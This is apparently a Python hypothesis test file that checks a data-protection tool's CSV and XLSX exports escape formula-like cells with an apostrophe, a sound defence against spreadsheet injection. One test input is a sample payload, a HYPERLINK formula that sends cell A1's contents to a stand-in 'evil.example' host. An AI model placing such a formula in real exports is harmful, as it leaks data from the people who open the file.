"""Every CSV and XLSX vernly writes shows `=HYPERLINK(...)` as text, never as a formula.

Cells are drawn by hypothesis, weighted towards the starts spreadsheets run (`= + - @`,
tab, carriage return); each file is read back with the reader a person's spreadsheet would
use (`csv`, openpyxl) and every cell must be the original text, or the original behind one
apostrophe when it starts like a formula.
"""

from __future__ import annotations

import csv
import io
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from vernly.cells import safe_cell
from vernly.connectors.records import Record, SystemRecords, TableInfo
from vernly.engine.requests.package import csv_files
from vernly.notices.ropa import CONTROLLER_COLUMNS, PROCESSOR_COLUMNS, Records
from vernly.notices.ropa_export import to_csv, to_xlsx

RUNS = ("=", "+", "-", "@", "\t", "\r")

text = st.one_of(
    st.text(st.characters(blacklist_categories=("Cs",))),
    st.builds(str.__add__, st.sampled_from(RUNS), st.text(st.characters(
        blacklist_categories=("Cs",)))),
    st.just('=HYPERLINK("https://evil.example/?"&A1,"Klikk her")'),
)
xlsx_text = text.filter(lambda s: not ILLEGAL_CHARACTERS_RE.search(s))


def _expected(original: str) -> str:
    # Written independently of vernly.cells: what a person must see in the cell.
    return "'" + original if original[:1] in RUNS else original


def _cells(content: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content, newline="")))


@given(text)
def test_text_that_starts_like_a_formula_gets_an_apostrophe_and_nothing_else_changes(
        value: str) -> None:
    assert safe_cell(value) == _expected(value)
    assert str(safe_cell(value))[:1] not in RUNS


@given(st.integers() | st.floats(allow_nan=False) | st.none())
def test_numbers_stay_numbers(value: Any) -> None:
    assert safe_cell(value) == value


@given(st.dictionaries(text, text, min_size=1, max_size=4), st.lists(text, max_size=3))
def test_the_access_package_csv_holds_every_cell_as_text(row: dict[str, str],
                                                          extra: list[str]) -> None:
    info = TableInfo(system="webshop", table="orders", categories=dict.fromkeys(row),
                     activity=None)
    rows = [row, {name: value for name, value in zip(row, extra, strict=False)}]
    found = SystemRecords(system="webshop", kind="sql",
                          records=[Record(info=info, key=i, fields=r) for i, r in enumerate(rows)])
    header, *lines = _cells(csv_files([found])["csv/webshop.orders.csv"])
    assert header == [_expected(name) for name in row]
    assert lines == [[_expected(r.get(name, "")) for name in row] for r in rows]


def _records(values: list[str]) -> Records:
    def row(columns: tuple[Any, ...], offset: int) -> dict[str, str]:
        return {c.key: values[(i + offset) % len(values)] for i, c in enumerate(columns)}
    return Records(lang="en", controller=[row(CONTROLLER_COLUMNS, 0)],
                   processor=[row(PROCESSOR_COLUMNS, 1)])


@given(st.lists(text, min_size=1, max_size=8))
def test_the_records_of_processing_csv_holds_every_cell_as_text(values: list[str]) -> None:
    recs = _records(values)
    header, controller, processor = _cells(to_csv(recs))
    assert dict(zip(header, controller, strict=True)) == {
        "record_type": "controller",
        **{k: "" for k in header[1:]},
        **{k: _expected(v) for k, v in recs.controller[0].items()}}
    assert [processor[header.index(k)] for k in recs.processor[0]] == [
        _expected(v) for v in recs.processor[0].values()]


@settings(max_examples=40, deadline=None)
@given(st.lists(xlsx_text, min_size=1, max_size=8))
def test_the_records_of_processing_workbook_holds_no_formula(values: list[str]) -> None:
    recs = _records(values)
    book = load_workbook(io.BytesIO(to_xlsx(recs)))
    for sheet, rows, columns in zip(book.worksheets, (recs.controller, recs.processor),
                                    (CONTROLLER_COLUMNS, PROCESSOR_COLUMNS), strict=True):
        cells = next(iter(sheet.iter_rows(min_row=2)))
        assert all(cell.data_type != "f" for cell in cells)
        # XML turns a carriage return into a line feed and drops an empty cell's text.
        assert [(cell.value or "").replace("\r", "\n") for cell in cells] == [
            _expected(rows[0][c.key]).replace("\r", "\n") for c in columns]
